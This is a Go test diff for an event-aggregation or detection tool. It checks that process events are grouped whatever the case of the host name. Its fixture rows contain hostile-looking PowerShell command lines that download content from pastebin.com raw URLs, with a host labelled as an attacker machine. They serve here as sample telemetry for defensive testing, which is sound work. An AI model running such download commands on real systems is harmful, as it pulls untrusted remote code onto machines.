@@ -342,3 +342,24 @@ func TestLongQueryResults(t *testing.T) {
 	require.Len(t, res.Table.Rows, 1, "%v", res.Table.Canonical())
 	require.Equal(t, "1", first(res.Table.Get(0, "connection_count")), "only the connection to a whole answer is pastebin's")
 }
+
+// TestHostAsWritten: events of one process are grouped whatever the case
+// of their host name, and the row writes the host as the events do (lookups
+// and where clauses after the command compare case-sensitively); when
+// spellings differ, the smallest is kept, whatever the spread.
+func TestHostAsWritten(t *testing.T) {
+	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	in := table(eventFields,
+		[]string{"1", "win-atk1", "{G1}", "0", ps, "powershell -c iwr https://pastebin.com/raw/x", `C:\Windows\explorer.exe`, "", "", "", ""},
+		[]string{"3", "WIN-ATK1", "{g1}", "10", ps, "", "", "pastebin.com", "104.20.67.143", "", ""},
+		[]string{"1", "WKS-9", "{G2}", "0", ps, "powershell -c iwr https://pastebin.com/raw/y", `C:\Windows\explorer.exe`, "", "", "", ""},
+	)
+	for _, n := range []int{1, 2, 3} {
+		res := run(t, in, n)
+		got := map[string]string{}
+		for i := range res.Table.Rows {
+			got[first(res.Table.Get(i, "ProcessGuid"))] = first(res.Table.Get(i, "host"))
+		}
+		require.Equal(t, map[string]string{"{g1}": "WIN-ATK1", "{g2}": "WKS-9"}, got, "%d indexers: one row per process, host as written", n)
+	}
+}
